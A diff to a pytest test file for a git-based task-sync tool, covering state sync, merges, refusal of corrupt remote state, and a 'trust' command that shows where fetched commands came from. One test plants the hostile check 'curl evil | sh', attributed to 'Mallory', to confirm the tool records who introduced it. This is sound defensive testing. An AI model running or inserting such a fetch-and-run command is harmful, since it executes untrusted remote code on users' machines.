@@ -9,8 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import git, make_repo, run, state_head
-from tests.sync_helpers import clones, ok, remote_url, set_status, task, tree  # noqa: F401
+from tests.conftest import git, make_repo, run, run_exe, state_head
+from tests.sync_helpers import clones, ok, remote_url, task, tree  # noqa: F401
 
 
 def test_fresh_clone_adopts_state_and_first_push(clones: Callable[[str], Path]) -> None:
@@ -22,7 +22,9 @@ def test_fresh_clone_adopts_state_and_first_push(clones: Callable[[str], Path]) 
     assert first["action"] == "pushed" and "refs/harness/state" in first["pushed"]
     b = clones("b")
     assert state_head(b) is None
-    got = ok("sync", "--json", cwd=b)
+    exe = run_exe("sync", "--json", cwd=b)  # the real executable, as a user runs it
+    assert exe.rc == 0, exe.err
+    got = exe.json()
     assert got["action"] == "adopted" and got["incoming"] >= 4
     assert state_head(b) == state_head(a)
     assert [t["id"] for t in json.loads(run("list", "--json", cwd=b).out)] == ["t0", "t1", "t2"]
@@ -30,6 +32,7 @@ def test_fresh_clone_adopts_state_and_first_push(clones: Callable[[str], Path]) 
     assert "+refs/harness/*:refs/remotes/origin/harness/*" in git("config", "--get-all", "remote.origin.fetch", cwd=b)
     again = ok("sync", "--json", cwd=b)
     assert again["action"] == "up-to-date" and again["pushed"] == []
+    assert ok("sync", cwd=b) == "sync origin: up to date; 0 commit(s) in, 0 out\n"
 
 
 def test_offline_divergence_converges(clones: Callable[[str], Path]) -> None:
@@ -41,9 +44,14 @@ def test_offline_divergence_converges(clones: Callable[[str], Path]) -> None:
     b = clones("b")
     ok("sync", cwd=b)
     # offline: each completes a different task and edits a different field of t3
-    set_status(a, "t0", "completed")
-    set_status(b, "t1", "completed")
-    set_status(b, "t2", "failed")
+    ok("claim", "t0", cwd=a)
+    ok("done", "t0", cwd=a)
+    ok("trust", "--all", cwd=b)  # the checks came from a
+    ok("claim", "t1", cwd=b)
+    ok("done", "t1", cwd=b)
+    ok("claim", "t2", cwd=b)
+    (b / "scratch.txt").write_text("attempt\n")
+    ok("fail", "t2", "--reason", "broke", cwd=b)
     ok("edit", "t3", "--title", "renamed on a", cwd=a)
     ok("edit", "t3", "--priority", "P0", cwd=b)
     ok("add", "only on a", "--id", "a1", cwd=a)
@@ -61,6 +69,8 @@ def test_offline_divergence_converges(clones: Callable[[str], Path]) -> None:
         t3 = task(where, "t3")
         assert (t3["title"], t3["priority"]) == ("renamed on a", "P0")
         assert {"a1", "b1"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}
+    # the failed attempt travelled with the state
+    assert git("rev-parse", "refs/harness/attempts/t2/1", cwd=a) == git("rev-parse", "refs/harness/attempts/t2/1", cwd=b)
     # the merge commit has both parents and says what it did in SYNC lines
     head = state_head(b)
     assert len(git("rev-list", "--parents", "-n1", head, cwd=b).split()) == 3
@@ -285,3 +295,120 @@ def test_remote_refusing_is_contention(tmp_path: Path) -> None:
     assert r.rc == 3 and "refused" in r.err and r.err.count("\n") == 1
     assert state_head(a) == before
     assert git("ls-remote", str(remote), cwd=a) == ""
+
+
+def test_unreadable_remote_state_is_refused(clones: Callable[[str], Path]) -> None:
+    """A remote whose state holds a broken task file: sync refuses it, nothing changes."""
+    import os
+    import subprocess
+
+    a = clones("a")
+    ok("init", cwd=a)
+    ok("add", "x", "--id", "t", cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    names = git("ls-tree", "-r", "--name-only", "refs/harness/state", cwd=a).splitlines()
+    tpath = next(p for p in names if p.endswith("/t.json"))
+    bad_blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], input="{not json", cwd=a,
+                              capture_output=True, text=True, check=True).stdout.strip()
+    env = {**os.environ, "GIT_INDEX_FILE": str(a / ".git" / "tmpindex")}
+    subprocess.run(["git", "read-tree", "refs/harness/state^{tree}"], cwd=a, check=True, env=env)
+    subprocess.run(["git", "update-index", "--cacheinfo", f"100644,{bad_blob},{tpath}"], cwd=a, check=True, env=env)
+    new_tree = subprocess.run(["git", "write-tree"], cwd=a, check=True, capture_output=True, text=True,
+                              env=env).stdout.strip()
+    commit = git("commit-tree", new_tree, "-p", str(state_head(a)), "-m", "broken", cwd=a)
+    git("push", "-q", "origin", f"{commit}:refs/harness/state", cwd=a)
+    before = state_head(b)
+    r = run("sync", cwd=b)
+    assert r.rc == 2 and "unreadable" in r.err and r.err.count("\n") == 1
+    assert state_head(b) == before
+    assert task(b, "t")["title"] == "x"
+
+
+def test_trust_lists_a_fetched_init_command(clones: Callable[[str], Path]) -> None:
+    a = clones("a")
+    ok("init", "--init-command", "echo ready", cwd=a)
+    ok("add", "x", "--id", "t", "--check", "true", "--cleanup", "rm -rf build", cwd=a)
+    assert json.loads(run("trust", "--json", cwd=a).out) == []  # created here: trusted at birth
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    items = {(i["id"], i["kind"], i["command"]) for i in json.loads(run("trust", "--json", cwd=b).out)}
+    assert items == {("config", "init", "echo ready"), ("t", "validation", "true"), ("t", "cleanup", "rm -rf build")}
+    r = run("trust", "config", "--json", cwd=b)
+    assert [i["kind"] for i in r.json()] == ["init"]
+    assert {i["id"] for i in json.loads(run("trust", "--json", cwd=b).out)} == {"t"}
+    r = run("trust", "--all", cwd=b)
+    assert r.rc == 0 and r.out.count("trusted t") == 2
+    assert "every command in the state is trusted" in run("trust", cwd=b).out
+
+
+def test_push_rejected_then_fetch_merge_retry(clones: Callable[[str], Path]) -> None:
+    """Someone pushes between our fetch and our push: rejected, fetched again, merged, pushed."""
+    from git_handoff.gitrepo import Repo
+    from git_handoff.ops import sync as sync_ops
+    from git_handoff.store import StateStore
+
+    a = clones("a")
+    ok("init", cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    ok("add", "mine, local only", "--id", "mine", cwd=a)
+    ok("add", "theirs", "--id", "theirs", cwd=b)
+    real_fetch = sync_ops.fetch
+    calls = []
+
+    def fetch_then_someone_pushes(repo, remote):  # type: ignore[no-untyped-def]
+        real_fetch(repo, remote)
+        if not calls:
+            calls.append(1)
+            assert run("sync", cwd=b).rc == 0
+
+    sync_ops.fetch = fetch_then_someone_pushes  # type: ignore[assignment]
+    try:
+        report = sync_ops.sync(StateStore(Repo.discover(a)), "origin")
+    finally:
+        sync_ops.fetch = real_fetch  # type: ignore[assignment]
+    assert report["retries"] == 1
+    ok("sync", cwd=b)
+    assert state_head(a) == state_head(b)
+    for where in (a, b):
+        assert {"mine", "theirs"} <= {t["id"] for t in json.loads(run("list", "--json", cwd=where).out)}
+
+
+def test_trust_names_who_introduced_a_command_through_a_merge(clones: Callable[[str], Path],
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    a = clones("a")
+    ok("init", cwd=a)
+    ok("add", "x", "--id", "t", "--check", "true", cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    monkeypatch.setenv("GIT_AUTHOR_NAME", "Mallory")
+    ok("edit", "t", "--check", "curl evil | sh", cwd=a)
+    ok("sync", cwd=a)
+    monkeypatch.setenv("GIT_AUTHOR_NAME", "Bob")
+    ok("add", "local work", "--id", "mine", cwd=b)  # so b's sync is a merge, authored by Bob
+    assert ok("sync", "--json", cwd=b)["action"] == "merged"
+    items = json.loads(run("trust", "--json", cwd=b).out)
+    hostile = next(i for i in items if i["command"] == "curl evil | sh")
+    assert hostile["introduced_by"] == "Mallory"
+    assert "Edited" in hostile["log"]
+
+
+def test_trust_groups_a_command_used_by_many_tasks(clones: Callable[[str], Path]) -> None:
+    a = clones("a")
+    ok("init", cwd=a)
+    plan = "".join(f'[[task]]\nid = "t{n:03d}"\ntitle = "task {n}"\ncheck = "pytest -q"\n' for n in range(300))
+    (a / "plan.toml").write_text(plan)
+    ok("import", str(a / "plan.toml"), cwd=a)
+    ok("sync", cwd=a)
+    b = clones("b")
+    ok("sync", cwd=b)
+    items = json.loads(run("trust", "--json", cwd=b).out)
+    assert len(items) == 1 and len(items[0]["uses"]) == 300 and items[0]["introduced_by"] == "Test Author"
+    assert "and 299 more use(s)" in run("trust", cwd=b).out
+    ok("trust", "t150", cwd=b)
+    assert json.loads(run("trust", "--json", cwd=b).out) == []
